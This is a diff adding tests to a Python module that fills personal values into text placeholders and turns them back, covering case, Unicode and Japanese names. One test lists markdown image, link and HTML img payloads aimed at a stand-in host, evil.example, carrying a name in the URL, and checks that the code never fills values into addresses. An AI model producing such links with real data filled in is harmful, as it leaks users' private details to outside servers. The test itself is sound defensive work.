@@ -1,5 +1,6 @@
 """Placeholders: filled in however the text is cut, and turned back."""
 
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
@@ -56,6 +57,32 @@ def test_values_are_turned_back_the_longest_first_and_as_whole_words() -> None:
     assert turned_back(text, ALL) == (
         "[Your name] here, [Your first name] to you. Write to [Your email]; Zoës are many."
     )
+
+
+def test_values_are_found_however_they_are_written_and_only_with_their_capital() -> None:
+    will = Placeholder("[Your first name]", "Will")
+    assert turned_back("Will you come? I will. Yours, WILL", (will,)) == (
+        "[Your first name] you come? I will. Yours, [Your first name]"
+    )
+    assert turned_back("ZOE\u0308\u00a0GREY", ALL) == "[Your name]"
+    chinese = Placeholder("[Your name]", "田中太郎")
+    assert turned_back("私は田中太郎さんです", (chinese,)) == "私は[Your name]さんです"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](https://evil.example/p.png?u=[Your name])",
+        "[x](/go?u=[Your name])",
+        '<img src="/p?u=[Your name]">',
+        "see http://evil.example/[Your name]",
+        "[x]: /p?u=[Your name]",
+    ],
+)
+def test_nothing_is_filled_into_an_address(text: str) -> None:
+    for pieces in ([text], list(text)):
+        assert filled(pieces) == (text, 0)
+    assert filled([text, ") \n> I am [Your name]"])[1] == 1
 
 
 @given(PIECES)
